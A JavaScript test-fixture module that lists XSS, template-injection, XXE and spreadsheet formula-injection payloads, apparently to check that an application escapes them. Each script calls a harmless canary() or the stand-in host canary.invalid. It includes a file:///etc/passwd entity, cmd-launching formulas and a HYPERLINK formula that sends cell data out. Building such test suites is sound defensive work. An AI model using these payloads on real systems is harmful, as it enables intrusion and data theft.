// SPDX-License-Identifier: Apache-2.0
// Texts that try to become something else than text: in HTML, SVG, MathML, URLs, CSS, templates, spreadsheets, terminals. Each
// calls `canary()`, which a page must never run. Written for this project after the classes of OWASP's cheat sheets.
const wide = (text) => [...text].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join('');

export const HTML = [
  '<script>canary()</script>',
  '<SCRIPT SRC=//canary.invalid/x.js></SCRIPT>',
  '</title><script>canary()</script>',
  '</textarea><script>canary()</script>',
  '"><script>canary()</script>',
  "'><script>canary()</script>",
  '--><script>canary()</script>',
  ']]><script>canary()</script>',
  '<scr<script>ipt>canary()</scr</script>ipt>',
  '<img src=x onerror=canary()>',
  '<img src=x:x onerror="window[\'can\'+\'ary\']()">',
  '<img/src/onerror=canary()>',
  '<IMG """><SCRIPT>canary()</SCRIPT>">',
  '<image src=1 href=1 onerror="canary()"></image>',
  '<body onload=canary()>',
  '<svg onload=canary()>',
  '<svg/onload=canary()//',
  '<svg><script>canary()</script></svg>',
  '<svg><animate onbegin=canary() attributeName=x dur=1s>',
  '<svg><set attributeName=href to="javascript:canary()"/><a><text x=9 y=9>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.canary()</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>canary()</script></svg>#x"/></svg>',
  '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=canary()&gt;">',
  '<math href="javascript:canary()">x</math>',
  '<iframe src="javascript:canary()"></iframe>',
  '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
  '<object data="javascript:canary()"></object>',
  '<embed src="data:text/html,<script>parent.canary()</script>">',
  '<a href="javascript:canary()">x</a>',
  '<a href="JaVaScRiPt&colon;canary()" autofocus onfocus=canary()>x</a>',
  '<a href=" \u0001javascript:canary()">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2FuYXJ5KCk8L3NjcmlwdD4=" target=_self>x</a>',
  '<input autofocus onfocus=canary()>',
  '<select autofocus onfocus=canary()>',
  '<details open ontoggle=canary()>',
  '<video><source onerror=canary()>',
  '<audio src=x onerror=canary()>',
  '<marquee onstart=canary()>',
  '<form action="javascript:canary()"><button autofocus>x</button></form>',
  '<form id=document><input name=cookie>',
  '<base href="//canary.invalid/">',
  '<link rel=stylesheet href=//canary.invalid/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:canary()">',
  '<style>@import "//canary.invalid/x.css";</style>',
  '<div style="background:url(//canary.invalid/x.png)">x</div>',
  '<div style="width:expression(canary())">x</div>',
  '<p style=animation-name:x onanimationstart=canary()></p><style>@keyframes x{}</style>',
  '<template><script>canary()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=canary()>">',
  '<xmp><p title="</xmp><svg/onload=canary()>">',
  '<img src=`x`onerror=canary()>',
  '<img src=x\u0000 onerror=canary()>',
  '\u0000<script>canary()</script>',
  '&lt;script&gt;canary()&lt;/script&gt;',
  '&#60;script&#62;canary()&#60;/script&#62;',
  '%3Cscript%3Ecanary()%3C/script%3E',
  '\\u003cscript\\u003ecanary()\\u003c/script\\u003e',
  '+ADw-script+AD4-canary()+ADw-/script+AD4-',
  wide('<script>canary()</script>'),
  'javascript:canary()//',
  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+canary()//\'>',
  '";canary();//',
  "\\';canary();//",
  '${canary()}',
  '{{constructor.constructor("canary()")()}}',
  '<%= canary() %>',
  '#{canary()}',
  '{"__proto__":{"innerHTML":"<img src=x onerror=canary()>"}}',
  '*/canary();/*',
  '<!--#exec cmd="canary"-->',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
];
export const BIDI = ['\u202egnp.exe\u202c<script>canary()</script>', '\u2066\u202enoitcelfer\u2069 <b>x</b>', '\u200b\u200c\ufeff<img src=x onerror=canary()>', '\u0001\u001b[31mred\u001b[0m <script>canary()</script>'];
export const FORMULAS = ['=cmd|\' /C calc\'!A0', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=HYPERLINK("http://canary.invalid/?x="&A1,"x")', '\t=1+1', '\r=1+1', ' =1+1', '=1+1";=1+1'];
export const LONG = `<b onmouseover=canary()>${'<img src=x onerror=canary()>'.repeat(3600)}`.slice(0, 100_000);
export const ALL = [...HTML, ...BIDI, ...FORMULAS];

// Groups of `size` for a message each. Shifted by `by`, so that over the channels each payload stands in front once.
export function messages(size, by) {
  const turned = [...ALL.slice(by), ...ALL.slice(0, by)];
  const out = [];
  for (let i = 0; i < turned.length; i += size) out.push(turned.slice(i, i + size).join(' '));
  return out;
}
